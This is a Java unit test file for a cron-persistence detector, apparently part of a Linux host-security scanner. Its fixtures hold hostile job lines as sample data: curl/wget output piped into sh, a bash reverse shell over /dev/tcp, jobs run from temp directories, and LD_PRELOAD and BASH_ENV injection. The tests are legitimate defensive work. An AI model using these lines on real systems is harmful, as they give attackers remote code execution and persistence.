package dev.ward.detect.builtin;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.ward.model.Finding;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CronDetectorTest {
    @TempDir
    Path dir;

    @Test
    void reportsDownloadAndUnownedFile() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .write("/etc/cron.d/apt-daily-check", "SHELL=/bin/sh\n"
                        + "*/10 * * * * root (curl -fsSL http://198.51.100.7/k.sh || wget -q -O- http://198.51.100.7/k.sh)"
                        + " | sh >/dev/null 2>&1\n");
        List<Finding> f = root.run(new CronDetector());
        assertEquals(List.of("high linux.cron.download_and_execute /etc/cron.d/apt-daily-check",
                "medium linux.cron.unowned_file /etc/cron.d/apt-daily-check"), PackagedRoot.brief(f));
        Finding high = f.getFirst();
        assertEquals(2, high.evidence().get("line"));
        assertEquals("root", high.evidence().get("user"));
        assertEquals("*/10 * * * *", high.evidence().get("schedule"));
        assertEquals("download piped to a shell", high.evidence().get("indicator"));
        assertEquals("no package", high.evidence().get("package"));
        assertEquals(PackagedRoot.MTIME.toString(), high.evidence().get("mtime"));
        assertEquals(List.of("T1053.003"), high.attack());
    }

    @Test
    void userCrontabAndAtJobFromTempAndNetwork() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .write("/var/spool/cron/crontabs/www-data", "# edit with crontab -e\n@reboot /dev/shm/.x/kworker -d\n")
                .write("/var/spool/cron/atjobs/a0000101b2c3d4", "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n"
                        + "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n")
                .write("/var/spool/cron/atjobs/.SEQ", "2\n");
        List<Finding> f = root.run(new CronDetector());
        assertEquals(List.of("high linux.cron.runs_from_temp /var/spool/cron/crontabs/www-data",
                "high linux.cron.download_and_execute /var/spool/cron/atjobs/a0000101b2c3d4",
                "medium linux.cron.unowned_file /var/spool/cron/crontabs/www-data",
                "medium linux.cron.unowned_file /var/spool/cron/atjobs/a0000101b2c3d4"), PackagedRoot.brief(f));
        assertEquals("www-data", f.get(0).evidence().get("user"));
        assertEquals("@reboot", f.get(0).evidence().get("schedule"));
        assertEquals("runs /dev/shm/.x/kworker", f.get(0).evidence().get("indicator"));
        assertEquals(4, f.get(1).evidence().get("line"));
        assertEquals(List.of("T1053.002"), f.get(1).attack());
    }

    @Test
    void editedPackagedFileIsJudgedButNotUnowned() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("e2fsprogs", "/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || "
                        + "SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"
                        + "* * * * * root /var/tmp/.ICE/update\n");
        assertEquals(List.of("high linux.cron.runs_from_temp /etc/cron.d/e2scrub_all"),
                PackagedRoot.brief(root.run(new CronDetector())));
    }

    @Test
    void quietOnPackagedJobs() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("cron", "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
                        + "25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n")
                .packaged("apt", "/etc/cron.daily/apt-compat", "#!/bin/sh\nset -e\nexec /usr/lib/apt/apt.systemd.daily\n")
                .packaged("cron", "/etc/cron.d/.placeholder", "# DO NOT EDIT OR REMOVE\n")
                .packaged("logrotate", "/etc/cron.daily/logrotate", "#!/bin/sh\nfind /tmp -name '*.old' -delete\n");
        assertEquals(List.of(), root.run(new CronDetector()));
    }

    @Test
    void unownedFileIsReportedWhateverItHolds() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .write("/etc/cron.d/0hourly", "SHELL=/bin/sh\n")
                .write("/etc/cron.d/sysstat", "*/5 * * *\n")
                .write("/etc/cron.yearly/rotate", "");
        List<Finding> f = root.results(new CronDetector()).findings();
        assertEquals(List.of("medium linux.cron.unowned_file /etc/cron.d/0hourly",
                "medium linux.cron.unowned_file /etc/cron.d/sysstat",
                "medium linux.cron.unowned_file /etc/cron.yearly/rotate"), PackagedRoot.brief(f));
        assertEquals(0, f.getFirst().evidence().get("entries"));
        assertEquals(PackagedRoot.MTIME.toString(), f.getFirst().evidence().get("mtime"));
    }

    @Test
    void environmentLinesAnacronIncronAndRedHatAtSpool() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("cron", "/etc/crontab", "SHELL=/dev/shm/.s/sh\nPATH=/usr/bin:/bin\n"
                        + "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
                .packaged("cronie-anacron", "/etc/anacrontab", "BASH_ENV=/etc/profile.d/x.sh\n"
                        + "1 5 cron.daily nice run-parts /etc/cron.daily\n7 25 upd curl -s http://198.51.100.7/u | bash\n")
                .packaged("incron", "/etc/incron.d/.keep", "")
                .write("/var/spool/incron/root", "/etc/shadow IN_MODIFY /var/tmp/.u/sync $@\n")
                .write("/var/spool/at/a0000201b2c3d4", "#!/bin/sh\nLD_PRELOAD=/lib/x.so; export LD_PRELOAD\n/usr/bin/id\n")
                .write("/var/spool/at/.SEQ", "3\n");
        List<Finding> f = root.results(new CronDetector()).findings();
        assertEquals(List.of("high linux.cron.environment /etc/crontab",
                "high linux.cron.environment /etc/anacrontab",
                "high linux.cron.download_and_execute /etc/anacrontab",
                "high linux.cron.runs_from_temp /var/spool/incron/root",
                "medium linux.cron.unowned_file /var/spool/at/a0000201b2c3d4",
                "medium linux.cron.unowned_file /var/spool/incron/root"), PackagedRoot.brief(f));
        assertEquals("SHELL points into /dev/shm/.s/sh", f.get(0).evidence().get("indicator"));
        assertEquals("BASH_ENV loads code into every job", f.get(1).evidence().get("indicator"));
        assertEquals("7 25", f.get(2).evidence().get("schedule"));
        assertEquals("/etc/shadow IN_MODIFY", f.get(3).evidence().get("schedule"));
        assertEquals("root", f.get(3).evidence().get("user"));
    }
}
